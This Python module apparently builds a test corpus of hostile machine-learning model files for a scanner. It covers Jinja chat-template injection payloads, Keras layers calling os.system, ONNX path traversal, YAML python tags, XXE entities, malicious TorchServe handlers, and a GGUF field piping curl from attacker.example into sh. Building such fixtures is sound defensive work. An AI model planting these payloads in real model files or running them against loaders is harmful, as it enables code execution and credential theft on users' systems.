"""Hostile model files outside pickle: graphs, layers, templates, configurations, handlers."""

from __future__ import annotations

import base64
import json
import struct
from collections.abc import Iterator

from formats.model_bytes import GgufBytes, raw_safetensors, safetensors
from integrity.inspect.corpus.assembler import system
from integrity.inspect.corpus.containers import zipped
from integrity.inspect.corpus.pickles import tarred
from integrity.inspect.wire_bytes import (
    function_def,
    graph_def,
    keras3,
    layer,
    message,
    number,
    onnx,
    rds_promise,
    saved_model,
    tf_node,
    torch7_function,
)

_WALK = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
_TEMPLATES = {
    "walk": _WALK,
    "attr_filter": "{{ ''|attr('__cla'~'ss__') }}",
    "attr_hex": "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "item": "{{ ''['__class__']['__mro__'] }}",
    "item_built": "{{ ''['__cl' + 'ass__'] }}",
    "item_joined": "{{ ''[['__cl','ass__']|join] }}",
    "item_format": "{{ ''['%sclass%s'|format('__','__')] }}",
    "cycler": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "lipsum": "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "joiner": "{{ joiner.__init__.__globals__ }}",
    "namespace": "{{ namespace.__init__.__globals__ }}",
    "self": "{{ self.__init__.__globals__.__builtins__ }}",
    "self_reference": "{{ self._TemplateReference__context }}",
    "request": "{{ request.application.__globals__ }}",
    "config": "{{ config.from_pyfile('/etc/passwd') }}",
    "import_name": "{{ __import__('os').system('id') }}",
    "set_alias": "{% set a = '__class__' %}{% set b = messages %}{{ b[a] }}",
    "map_attribute": "{{ [messages]|map(attribute='__class__')|list }}",
    "groupby": "{{ [messages]|groupby('__class__') }}",
    "sort": "{{ messages|sort(attribute='__init__.__globals__') }}",
    "format_walk": "{{ '{0.__class__}'.format(messages) }}",
    "format_map": "{{ '{m.__class__.__mro__}'.format_map({'m': messages}) }}",
    "include": "{% include '/etc/passwd' %}",
    "import_file": "{% import 'x' as y %}",
    "extends": "{% extends '/etc/passwd' %}",
    "loop": "{% for a in range(999999999) %}{% for b in range(999999999) %}x{% endfor %}{% endfor %}",
    "pow": "{{ 9 ** 99999999 }}",
    "multiply": "{{ 'x' * 9999999999 }}",
    "macro_globals": "{% macro m() %}{% endmacro %}{{ m.__globals__ }}",
    "exception_walk": "{{ raise_exception.__globals__ }}",
    "strftime_walk": "{{ strftime_now.__globals__ }}",
    "tojson_walk": "{{ messages[0]['content'].__class__ }}",
    "generator": "{{ (messages|select).gi_frame.f_globals }}",
    "reverse": "{{ ''['__ssalc__'[::-1]] }}",
    "reverse_filter": "{{ ''['__ssalc__'|reverse] }}",
    "lower": "{{ ''['__CLASS__'|lower] }}",
    "replace": "{{ ''['_xclass_x'|replace('x','_')] }}",
    "dict_walk": "{{ ''[dict(__class__=1)|first] }}",
    "slice": "{{ ''['a__class__a'[1:-1]] }}",
    "message_key": "{{ ''[messages[0].content] }}",
    "call_block": "{% call(x) cycler.__init__.__globals__.os.popen('id') %}{% endcall %}",
    "filter_block": "{% filter attr('__class__') %}x{% endfilter %}",
    "with_block": "{% with x = ''.__class__ %}{{ x }}{% endwith %}",
    "broken_then_walk": "{% if %}" + _WALK,
}


def templates() -> Iterator[tuple[str, bytes]]:
    """Each template in one of the places that templates are read from, in turn."""
    places = (_in_tokenizer_config, _in_gguf, _in_named_list, _in_jinja_file, _in_processor, _in_gguf_named)
    for at, (name, template) in enumerate(_TEMPLATES.items()):
        where, content = places[at % len(places)](template)
        yield f"template_{name}/{where}", content
    yield (
        "template_walk_tokenizer/tokenizer.json",
        json.dumps({"version": "1.0", "model": {"type": "BPE"}, "chat_template": _WALK}).encode(),
    )
    yield "template_walk_adapter/chat_template.json", json.dumps({"chat_template": _WALK}).encode()
    yield "template_walk_dir/additional_chat_templates/tool.jinja", _WALK.encode()
    yield "template_walk_yaml/model.yaml", f'chat_template: "{_WALK}"\n'.encode()
    yield "template_walk_generation/generation_config.json", json.dumps({"chat_template": _WALK}).encode()
    yield "template_walk_special/special_tokens_map.json", json.dumps({"chat_template": _WALK}).encode()
    yield "template_walk_safetensors/model.safetensors", safetensors({"w": ("F32", (2,))}, {"chat_template": _WALK})
    yield "template_walk_ollama/Modelfile", b"FROM ../../../../etc/passwd\n"


def _in_tokenizer_config(template: str) -> tuple[str, bytes]:
    return "tokenizer_config.json", json.dumps(
        {"tokenizer_class": "LlamaTokenizer", "chat_template": template}
    ).encode()


def _in_named_list(template: str) -> tuple[str, bytes]:
    calm = {"name": "default", "template": "{{ messages }}"}
    return "tokenizer_config.json", json.dumps(
        {"chat_template": [calm, {"name": "tool_use", "template": template}]}
    ).encode()


def _in_gguf(template: str) -> tuple[str, bytes]:
    writer = GgufBytes().pair("general.architecture", "llama").pair("tokenizer.chat_template", template)
    return "model.gguf", writer.tensor("w", (8, 8)).build()


def _in_gguf_named(template: str) -> tuple[str, bytes]:
    writer = GgufBytes().pair("general.architecture", "llama").pair("tokenizer.chat_templates", ["tool_use"])
    return "model.gguf", writer.pair("tokenizer.chat_template.tool_use", template).tensor("w", (8, 8)).build()


def _in_jinja_file(template: str) -> tuple[str, bytes]:
    return "chat_template.jinja", template.encode()


def _in_processor(template: str) -> tuple[str, bytes]:
    return "processor_config.json", json.dumps(
        {"processor_class": "LlavaProcessor", "chat_template": template}
    ).encode()


_LAMBDA = layer(
    "keras.layers",
    "Lambda",
    name="l",
    function={"class_name": "__lambda__", "config": {"code": base64.b64encode(b"\xe3" + bytes(40)).decode()}},
)


def keras() -> Iterator[tuple[str, bytes]]:
    for name, one in _keras_layers():
        yield (
            f"keras_{name}.keras",
            zipped(
                {
                    "config.json": keras3(one),
                    "metadata.json": b'{"keras_version": "3.3.3"}',
                    "model.weights.h5": b"\x89HDF\r\n\x1a\n",
                }
            ),
        )
    yield "keras_lambda_json/model.json", keras3(_LAMBDA)
    yield (
        "keras_yaml/model.yaml",
        b"class_name: Sequential\nconfig:\n- class_name: Lambda\n  config:\n    function: !!python/object/apply:os.system [id]\n",
    )
    yield (
        "keras_weights_pickle.keras",
        zipped(
            {
                "config.json": keras3(layer("keras.layers", "Dense", units=1)),
                "metadata.json": b"{}",
                "model.weights.npz": zipped({"a.npy": system()}),
            }
        ),
    )
    yield (
        "keras_assets.keras",
        zipped(
            {
                "config.json": keras3(layer("keras.layers", "Dense", units=1)),
                "metadata.json": b"{}",
                "assets/x.pkl": system(),
            }
        ),
    )
    yield (
        "keras_compile.keras",
        zipped(
            {
                "metadata.json": b"{}",
                "config.json": json.dumps(
                    {
                        "module": "keras",
                        "class_name": "Sequential",
                        "config": {"name": "s", "layers": []},
                        "compile_config": {
                            "loss": {
                                "module": "os",
                                "class_name": "function",
                                "config": "system",
                                "registered_name": "system",
                            }
                        },
                    }
                ).encode(),
            }
        ),
    )
    yield (
        "keras_build_config.keras",
        zipped(
            {
                "metadata.json": b"{}",
                "config.json": json.dumps(
                    {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}
                ).encode(),
            }
        ),
    )
    yield (
        "keras_two_configs.keras",
        zipped(
            {
                "config.json": keras3(layer("keras.layers", "Dense", units=1)),
                "metadata.json": b"{}",
                "Config.json": keras3(_LAMBDA),
            }
        ),
    )


def _keras_layers() -> Iterator[tuple[str, dict[str, object]]]:
    functional = {
        "module": "keras.models",
        "class_name": "Functional",
        "registered_name": None,
        "config": {"name": "f", "layers": [_LAMBDA]},
    }
    yield "lambda", _LAMBDA
    yield "lambda_in_functional_in_timedistributed", layer("keras.layers", "TimeDistributed", layer=functional)
    yield "lambda_in_bidirectional", layer("keras.layers", "Bidirectional", layer=_LAMBDA)
    yield "lambda_in_rnn_cell", layer("keras.layers", "RNN", cell=_LAMBDA)
    yield "lambda_in_list", layer("keras.layers", "StackedRNNCells", cells=[{"x": [_LAMBDA]}])
    yield (
        "lambda_old_form",
        layer(
            None, "Lambda", name="l", function=["4wEAAAAAAAAA", None, None], function_type="lambda", module="__main__"
        ),
    )
    yield "lambda_alias", layer("keras.src.layers.core.lambda_layer", "Lambda", function="os.system")
    yield (
        "lambda_registered",
        {
            "module": "keras.layers",
            "class_name": "Dense",
            "registered_name": "Lambda",
            "config": {"function": ["x", None, None]},
        },
    )
    yield (
        "lambda_in_call_arg",
        layer(
            "keras.layers", "Dense", units=1, kwargs={"mask": {"class_name": "__lambda__", "config": {"code": "4wEA"}}}
        ),
    )
    yield "tfsm", layer("keras.layers", "TFSMLayer", filepath="evil/saved_model")
    yield "tfsm_long", layer("keras.src.export.tfsm_layer", "TFSMLayer", filepath="evil")
    yield "torch_wrapper", layer("keras.layers", "TorchModuleWrapper", module={"class_name": "x", "config": {}})
    yield "flax_layer", layer("keras.layers", "FlaxLayer", module="x")
    yield (
        "jax_layer",
        layer("keras.layers", "JaxLayer", call_fn={"module": "os", "class_name": "function", "config": "system"}),
    )
    yield "string_lookup", layer("keras.layers", "StringLookup", vocabulary="/etc/passwd")
    yield "string_lookup_url", layer("keras.layers", "StringLookup", vocabulary="http://attacker.example/v.txt")
    yield "integer_lookup", layer("keras.layers", "IntegerLookup", vocabulary="../../etc/passwd")
    yield "text_vectorization", layer("keras.layers", "TextVectorization", vocabulary="/etc/passwd")
    yield (
        "text_standardize",
        layer(
            "keras.layers",
            "TextVectorization",
            standardize={"module": "os", "class_name": "function", "config": "system"},
        ),
    )
    yield "hashed_crossing_unknown", layer("keras.layers.evil", "HashedCrossing", num_bins=1)
    yield (
        "get_file",
        {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"},
    )
    yield (
        "unsafe_switch",
        {
            "module": "keras.config",
            "class_name": "function",
            "config": "enable_unsafe_deserialization",
            "registered_name": "function",
        },
    )
    yield "module_os", layer("os", "system", command="id")
    yield "module_builtins", layer("builtins", "eval", source="1")
    yield "module_subprocess", layer("subprocess", "Popen", args=["id"])
    yield "module_own", layer("acme.layers", "Gate", units=1)
    yield "module_keras_internal", layer("keras.src.utils.file_utils", "get_file", fname="x")
    yield "module_keras_model_load", layer("keras.models", "load_model", filepath="/tmp/x")
    yield (
        "activation_function",
        layer(
            "keras.layers",
            "Dense",
            units=1,
            activation={
                "module": "builtins",
                "class_name": "function",
                "config": "eval",
                "registered_name": "function",
            },
        ),
    )
    yield "activation_text", layer("keras.layers", "Activation", activation="os.system")
    yield (
        "initializer",
        layer(
            "keras.layers",
            "Dense",
            units=1,
            kernel_initializer={"module": "subprocess", "class_name": "Popen", "config": {"args": "id"}},
        ),
    )
    yield (
        "policy",
        layer(
            "keras.layers",
            "Dense",
            units=1,
            dtype={"module": "shutil", "class_name": "rmtree", "config": {"path": "/"}},
        ),
    )
    yield (
        "numpy_value",
        layer("keras.layers", "Dense", units={"class_name": "__numpy__", "config": {"value": 1}, "module": "os"}),
    )
    yield (
        "typespec",
        layer(
            "keras.layers",
            "Dense",
            x={"class_name": "__typespec__", "spec_name": "os.system", "module": "os", "config": []},
        ),
    )
    yield "absurd_shape", layer("keras.layers", "Dense", units=10**15)
    yield (
        "slicing_operation",
        layer("keras.src.ops.numpy", "GetItem", key={"class_name": "__lambda__", "config": {"code": "4wEA"}}),
    )
    yield "wrapper_custom", layer("keras.layers", "Wrapper", layer=layer("os", "popen"))


def graphs() -> Iterator[tuple[str, bytes]]:
    for location in (
        "../../etc/passwd",
        "/etc/passwd",
        "..\\..\\x",
        "C:\\x",
        "file:///etc/passwd",
        "a/../../x",
        "\\\\host\\share",
        "~/x",
        "..",
        "./../x",
    ):
        name = "".join(c if c.isalnum() else "_" for c in location)
        yield f"onnx_external{name}.onnx", onnx(location=location)
    yield "onnx_external_nested.onnx", _onnx_nested()
    yield "onnx_pyop.onnx", onnx("PyOp", "ai.onnx.contrib")
    yield "onnx_pyop_pyfunc.onnx", onnx("PyCustomOpDef", "ai.onnx.contrib")
    yield "onnx_aten.onnx", onnx("ATen", "org.pytorch.aten")
    yield "onnx_domain.onnx", onnx("Evil", "com.attacker")
    yield "onnx_metadata.onnx", onnx(metadata={"init": "import os; os.system('id')"})
    yield "onnx_trailing_pickle.onnx", onnx() + system()
    yield "onnx_cut.onnx", onnx()[:-9]
    for op in (
        "PyFunc",
        "PyFuncStateless",
        "EagerPyFunc",
        "ReadFile",
        "WriteFile",
        "MergeV2Checkpoints",
        "Save",
        "SaveV2",
        "ShardedFilename",
        "LoadLibrary",
        "DebugIdentityV2",
        "MatchingFiles",
        "Print2",
        "TFRecordDataset",
        "XlaLaunch",
        "RemoteCall",
        "LookupTableImport",
        "InitializeTableFromTextFileV2",
        "RestoreV2",
    ):
        text = "/etc/passwd" if op not in ("PyFunc", "EagerPyFunc", "PyFuncStateless") else ""
        constant = tf_node("p", "Const", text=text or "x")
        if op == "RestoreV2" or op in (
            "Save",
            "Print2",
            "ShardedFilename",
            "MatchingFiles",
            "XlaLaunch",
            "RemoteCall",
            "LookupTableImport",
        ):
            continue
        yield f"tf_{op}/saved_model.pb", saved_model(graph_def(constant, tf_node("n", op, ("p",))))
    yield (
        "tf_in_function/saved_model.pb",
        saved_model(
            graph_def(
                tf_node("a", "Const"),
                function=function_def("f", tf_node("p", "Const", text="/x"), tf_node("w", "WriteFile", ("p",))),
            )
        ),
    )
    yield "tf_frozen/frozen.pb", graph_def(tf_node("p", "Const", text="/x"), tf_node("w", "WriteFile", ("p", "p")))
    yield "tf_custom/saved_model.pb", saved_model(graph_def(tf_node("a", "EvilCustomOp")))
    yield (
        "tf_restore_fixed/saved_model.pb",
        saved_model(graph_def(tf_node("p", "Const", text="/etc/passwd"), tf_node("r", "RestoreV2", ("p", "p", "p")))),
    )
    yield (
        "tf_two_graphs/saved_model.pb",
        saved_model(graph_def(tf_node("a", "Const")))
        + message(2, message(1, message(4, "train")), message(2, graph_def(tf_node("p", "PyFunc")))),
    )
    yield (
        "tf_keras_metadata/keras_metadata.pb",
        message(
            1,
            number(1, 1),
            message(3, "root"),
            message(4, "_tf_keras_sequential"),
            message(5, json.dumps({"class_name": "Sequential", "config": {"layers": [_LAMBDA]}})),
        ),
    )
    yield "tf_cut/saved_model.pb", saved_model(graph_def(tf_node("a", "Const")))[:-11]
    yield (
        "coreml_custom.mlmodel",
        number(1, 4) + message(2, message(100, message(1, "x"))) + message(555, message(1, "EvilModel")),
    )
    yield (
        "tfjs_path/model.json",
        json.dumps(
            {
                "format": "graph-model",
                "modelTopology": {"node": [{"name": "a", "op": "Const"}]},
                "weightsManifest": [{"paths": ["../../etc/passwd"], "weights": []}],
            }
        ).encode(),
    )
    yield (
        "tfjs_lambda/model.json",
        json.dumps(
            {
                "format": "layers-model",
                "modelTopology": {"model_config": {"class_name": "Sequential", "config": {"layers": [_LAMBDA]}}},
                "weightsManifest": [],
            }
        ).encode(),
    )


def _onnx_nested() -> bytes:
    """External data of a constant inside a branch of an If."""
    tensor = (
        number(1, 2)
        + number(2, 1)
        + message(8, "w")
        + message(13, message(1, "location"), message(2, "../../x"))
        + number(14, 1)
    )
    constant = (
        message(2, "c") + message(4, "Constant") + message(5, message(1, "value"), message(5, tensor), number(20, 4))
    )
    branch = message(1, constant) + message(2, "b")
    node = (
        message(1, "x")
        + message(2, "y")
        + message(4, "If")
        + message(5, message(1, "then_branch"), message(6, branch), number(20, 5))
    )
    return number(1, 9) + message(7, message(1, node), message(2, "g")) + message(8, message(1, ""), number(2, 18))


def weights() -> Iterator[tuple[str, bytes]]:
    def header(value: object) -> bytes:
        return json.dumps(value).encode()

    def one(dtype: str = "F32", shape: tuple[int, ...] = (2,), at: tuple[int, int] = (0, 8)) -> dict[str, object]:
        return {"dtype": dtype, "shape": list(shape), "data_offsets": list(at)}

    yield "st_overlap.safetensors", raw_safetensors(header({"a": one(), "b": one(at=(4, 12))}), bytes(12))
    yield "st_hole.safetensors", raw_safetensors(header({"a": one(), "b": one(at=(16, 24))}), bytes(24))
    yield "st_trailing.safetensors", raw_safetensors(header({"a": one()}), bytes(8) + b"MZ" + bytes(100))
    yield (
        "st_duplicate.safetensors",
        raw_safetensors(
            b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}',
            bytes(8),
        ),
    )
    yield "st_size.safetensors", raw_safetensors(header({"a": one(shape=(3,))}), bytes(8))
    yield "st_negative.safetensors", raw_safetensors(header({"a": one(shape=(-2,), at=(0, 8))}), bytes(8))
    yield "st_short.safetensors", raw_safetensors(header({"a": one()}), bytes(4))
    yield "st_header_huge.safetensors", struct.pack("<Q", 1 << 60) + b'{"a":1}'
    yield "st_header_big.safetensors", struct.pack("<Q", 200_000_000) + b'{"a":1}'
    yield "st_overflow.safetensors", raw_safetensors(header({"a": one(shape=(1 << 62, 4))}), bytes(8))
    yield "st_code.safetensors", safetensors({"a": ("F32", (2,))}, {"init": "__import__('os').system('id')"})
    yield "st_dtype.safetensors", raw_safetensors(header({"a": one("PICKLE")}), bytes(8))
    yield "st_not_object.safetensors", raw_safetensors(b"[1,2,3]", b"")
    calm = GgufBytes().pair("general.architecture", "llama").tensor("w", (8, 8))
    yield "gguf_pairs.gguf", calm.build(pair_count=1 << 60)
    yield "gguf_tensors.gguf", calm.build(tensor_count=1 << 60)
    yield "gguf_text.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 62) + b"x"
    yield (
        "gguf_array.gguf",
        b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1) + b"a" + struct.pack("<IIQ", 9, 8, 1 << 61),
    )
    yield (
        "gguf_nested.gguf",
        b"GGUF"
        + struct.pack("<IQQ", 3, 0, 1)
        + struct.pack("<Q", 1)
        + b"a"
        + struct.pack("<I", 9)
        + struct.pack("<IQ", 9, 1) * 5000,
    )
    yield "gguf_version.gguf", b"GGUF" + struct.pack("<IQQ", 99, 0, 0)
    yield (
        "gguf_dims.gguf",
        GgufBytes().pair("general.architecture", "llama").tensor("w", (1 << 31, 1 << 31, 1 << 31), size=0).build(),
    )
    yield "gguf_offset.gguf", _gguf_offset()
    yield (
        "gguf_code.gguf",
        GgufBytes()
        .pair("general.architecture", "llama")
        .pair("general.description", "import os; os.system('curl http://attacker.example|sh')")
        .tensor("w", (8, 8))
        .build(),
    )
    yield "torch7.t7", torch7_function()
    yield "model.rds", rds_promise()
    yield "flax.msgpack", b"\x81\xa1a\xc7\x05\x07abcde"
    yield "xgb.ubj", b"{L" + struct.pack(">q", -1)
    yield "lgbm.txt", b"tree\nversion=v4\nnum_class=1\nmax_feature_idx=1\nobjective=__import__('os').system('id')\n"


def _gguf_offset() -> bytes:
    writer = GgufBytes().pair("general.architecture", "llama").tensor("w", (8, 8))
    found = writer.build()
    name = struct.pack("<Q", 1) + b"w"
    at = found.index(name) + len(name) + 4 + 16 + 4
    return found[:at] + struct.pack("<Q", 1 << 40) + found[at + 8 :]


def configurations() -> Iterator[tuple[str, bytes]]:
    def as_json(value: object) -> bytes:
        return json.dumps(value).encode()

    yield "auto_map/config.json", as_json({"model_type": "llama", "auto_map": {"AutoModel": "modeling_evil.EvilModel"}})
    yield (
        "auto_map_remote/config.json",
        as_json({"model_type": "x", "auto_map": {"AutoModel": "attacker/evil--modeling.Evil"}}),
    )
    yield (
        "auto_map_tokenizer/tokenizer_config.json",
        as_json({"auto_map": {"AutoTokenizer": ["tokenization_evil.Evil", None]}}),
    )
    yield (
        "auto_map_nested/config.json",
        as_json({"model_type": "llava", "vision_config": {"auto_map": {"AutoModel": "x.Y"}}}),
    )
    yield (
        "custom_pipelines/config.json",
        as_json({"model_type": "x", "custom_pipelines": {"p": {"impl": "evil.Pipe", "pt": ["AutoModel"]}}}),
    )
    yield "trust/config.json", as_json({"model_type": "x", "trust_remote_code": True})
    yield (
        "diffusers/model_index.json",
        as_json({"_class_name": "Pipe", "_diffusers_version": "0.30", "unet": ["evil_module", "Evil"]}),
    )
    yield (
        "diffusers_custom/model_index.json",
        as_json({"_class_name": ["pipeline", "EvilPipeline"], "_diffusers_version": "0.30"}),
    )
    yield "sentence_modules/modules.json", as_json([{"idx": 0, "name": "0", "path": "", "type": "os.system"}])
    yield (
        "sentence_modules_path/modules.json",
        as_json([{"idx": 0, "name": "0", "path": "../../x", "type": "sentence_transformers.models.Transformer"}]),
    )
    yield "shards/model.safetensors.index.json", as_json({"metadata": {}, "weight_map": {"a": "../../../etc/passwd"}})
    yield "shards_absolute/pytorch_model.bin.index.json", as_json({"metadata": {}, "weight_map": {"a": "/etc/passwd"}})
    yield "hydra/config.yaml", b"model:\n  _target_: os.system\n  command: id\n"
    yield "hydra_partial/config.yaml", b"model:\n  _target_: builtins.eval\n  _partial_: true\n"
    yield "hydra_json/config.json", as_json({"model": {"_target_": "subprocess.Popen", "args": ["id"]}})
    yield "hydra_get_method/config.yaml", b"a:\n  _target_: hydra.utils.get_method\n  path: os.system\n"
    yield (
        "hydra_deep/config.yaml",
        b"a:\n" + b"".join(b"  " * n + b"k:\n" for n in range(1, 40)) + b"  " * 40 + b"_target_: posix.system\n",
    )
    for name, tag in (
        ("apply", "!!python/object/apply:os.system [id]"),
        ("new", "!!python/object/new:os.system [id]"),
        ("name", "!!python/name:os.system"),
        ("module", "!!python/module:os"),
        ("verbatim", "!<tag:yaml.org,2002:python/object/apply:os.system> [id]"),
    ):
        yield f"yaml_{name}/config.yaml", f"a: {tag}\n".encode()
    yield "yaml_directive/config.yaml", b"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]\n"
    yield "yaml_second_document/config.yaml", b"a: 1\n---\nb: !!python/object/apply:os.system [id]\n"
    yield (
        "yaml_bomb/config.yaml",
        b"a: &a [x,x,x,x,x,x,x,x,x]\n"
        + b"".join(b"%c: &%c [%s]\n" % (c, c, b",".join([b"*%c" % (c - 1)] * 9)) for c in range(98, 110)),
    )
    yield "yaml_utf16/config.yaml", "a: !!python/object/apply:os.system [id]\n".encode("utf-16")
    yield (
        "mlmodel/MLmodel",
        b"flavors:\n  python_function:\n    loader_module: evil\n    code: code\n    data: model.pkl\n",
    )
    yield (
        "handler.mar",
        zipped(
            {
                "MAR-INF/MANIFEST.json": as_json(
                    {
                        "createdOn": "x",
                        "runtime": "python",
                        "model": {
                            "modelName": "m",
                            "serializedFile": "m.pt",
                            "handler": "handler.py",
                            "modelVersion": "1",
                        },
                    }
                ),
                "handler.py": b"import os\nos.system('id')\n",
                "m.pt": b"\x80\x02}q\x00.",
            }
        ),
    )
    yield (
        "handler_path.mar",
        zipped(
            {
                "MAR-INF/MANIFEST.json": as_json(
                    {
                        "runtime": "python",
                        "model": {
                            "modelName": "m",
                            "serializedFile": "../../m.pt",
                            "handler": "/tmp/h.py",
                            "modelVersion": "1",
                        },
                    }
                )
            }
        ),
    )
    yield (
        "requirements.mar",
        zipped(
            {
                "MAR-INF/MANIFEST.json": as_json(
                    {
                        "runtime": "python",
                        "model": {
                            "modelName": "m",
                            "handler": "image_classifier",
                            "requirementsFile": "requirements.txt",
                            "modelVersion": "1",
                        },
                    }
                ),
                "requirements.txt": b"--index-url http://attacker.example/simple\nevil\n",
            }
        ),
    )
    yield (
        "xml_entity/model.xml",
        b'<?xml version="1.0"?><!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]><net name="m" version="11"><layers>&x;</layers></net>',
    )
    yield (
        "xml_bomb/model.xml",
        b'<?xml version="1.0"?><!DOCTYPE net [<!ENTITY a "xxxxxxxxxx"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><net name="m" version="11"><layers>&b;</layers></net>',
    )
    yield (
        "xml_utf16/model.xml",
        '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]><net name="m" version="11"><layers>&x;</layers></net>'.encode(
            "utf-16"
        ),
    )
    yield (
        "pmml_entity.pmml",
        b'<?xml version="1.0"?><!DOCTYPE PMML SYSTEM "http://attacker.example/x.dtd"><PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"/>',
    )
    yield (
        "pmml_script.pmml",
        b'<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><script>alert(1)</script></PMML>',
    )
    yield (
        "openvino_extension/model.xml",
        b'<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="x" type="Evil" version="evil_ext"><data library="/tmp/evil.so"/></layer></layers></net>',
    )
    yield "shipped_code/modeling_evil.py", b"import subprocess\nsubprocess.run(['curl', 'http://attacker.example'])\n"
    for name, node in _skops():
        yield f"skops_{name}.skops", zipped({"schema.json": as_json({**node, "protocol": 2, "_skops_version": "0.11"})})
    yield (
        "skops_pickle.skops",
        zipped(
            {
                "schema.json": as_json(
                    {
                        "__class__": "LogisticRegression",
                        "__module__": "sklearn.linear_model._logistic",
                        "__loader__": "ObjectNode",
                        "__id__": 1,
                        "content": None,
                        "protocol": 2,
                        "_skops_version": "0.11",
                    }
                ),
                "1.pkl": system(),
            }
        ),
    )
    yield (
        "nemo_target.nemo",
        tarred(
            {
                "model_config.yaml": b"target: os.system\ncfg:\n  _target_: subprocess.run\n",
                "model_weights.ckpt": b"\x80\x02}q\x00.",
            }
        ),
    )
    yield (
        "nemo_artifact.nemo",
        tarred({"model_config.yaml": b"tokenizer:\n  _target_: posix.system\n", "x_tokenizer.model": b"x"}),
    )
    yield "executorch.pte", b"\x1c\x00\x00\x00ET12" + bytes(24)
    yield "paddle.pdmodel", message(1, message(3, message(1, "x"), message(3, "py_func")), number(1, 0), number(2, 0))
    yield (
        "mxnet-symbol.json",
        as_json(
            {
                "nodes": [{"op": "Custom", "name": "c", "attrs": {"op_type": "evil"}, "inputs": []}],
                "arg_nodes": [],
                "heads": [[0, 0, 0]],
                "attrs": {"mxnet_version": ["int", 10700]},
            }
        ),
    )
    yield (
        "tokenizer_post/tokenizer.json",
        as_json(
            {
                "version": "1.0",
                "model": {"type": "BPE"},
                "added_tokens": [{"content": "{{ ''.__class__.__mro__ }}"}],
                "auto_map": {"AutoTokenizer": "x.Y"},
            }
        ),
    )


def _skops() -> Iterator[tuple[str, dict[str, object]]]:
    function = {
        "__class__": "system",
        "__module__": "os",
        "__loader__": "FunctionNode",
        "__id__": 2,
        "content": "system",
    }
    yield "function", function
    yield (
        "operator",
        {
            "__class__": "methodcaller",
            "__module__": "operator",
            "__loader__": "OperatorFuncNode",
            "__id__": 1,
            "attrs": {
                "__class__": "tuple",
                "__module__": "builtins",
                "__loader__": "TupleNode",
                "content": [],
                "__id__": 3,
            },
        },
    )
    yield (
        "partial",
        {
            "__class__": "partial",
            "__module__": "functools",
            "__loader__": "PartialNode",
            "__id__": 1,
            "content": {"func": function, "args": None, "kwds": None, "namespace": None},
        },
    )
    yield (
        "method",
        {
            "__class__": "method",
            "__module__": "builtins",
            "__loader__": "MethodNode",
            "__id__": 1,
            "content": {
                "func": "system",
                "obj": {"__class__": "x", "__module__": "os", "__loader__": "ObjectNode", "__id__": 4, "content": None},
            },
        },
    )
    yield (
        "type",
        {"__class__": "Popen", "__module__": "subprocess", "__loader__": "TypeNode", "__id__": 1, "content": None},
    )
    yield (
        "reduce",
        {
            "__class__": "Popen",
            "__module__": "subprocess",
            "__loader__": "ReduceNode",
            "__id__": 1,
            "content": {"reduce": {}, "constructor": function, "args": []},
        },
    )
    yield (
        "object",
        {"__class__": "Evil", "__module__": "acme", "__loader__": "ObjectNode", "__id__": 1, "content": None},
    )
    yield (
        "loader_unknown",
        {"__class__": "dict", "__module__": "builtins", "__loader__": "EvilNode", "__id__": 1, "content": {}},
    )
    yield (
        "default_dict",
        {
            "__class__": "defaultdict",
            "__module__": "collections",
            "__loader__": "DefaultDictNode",
            "__id__": 1,
            "content": {"default_factory": function, "main": {}},
        },
    )
    yield (
        "random_state",
        {"__class__": "RandomState", "__module__": "evil", "__loader__": "RandomStateNode", "__id__": 1, "content": {}},
    )
    yield (
        "mismatch",
        {
            "__class__": "system",
            "__module__": "os",
            "__loader__": "DictNode",
            "__id__": 1,
            "content": {},
            "key_types": {},
        },
    )
    yield (
        "nested",
        {
            "__class__": "list",
            "__module__": "builtins",
            "__loader__": "ListNode",
            "__id__": 1,
            "content": [
                {
                    "__class__": "list",
                    "__module__": "builtins",
                    "__loader__": "ListNode",
                    "__id__": 5,
                    "content": [function],
                }
            ],
        },
    )


def hostile_models() -> Iterator[tuple[str, bytes]]:
    yield from templates()
    yield from keras()
    yield from graphs()
    yield from weights()
    yield from configurations()
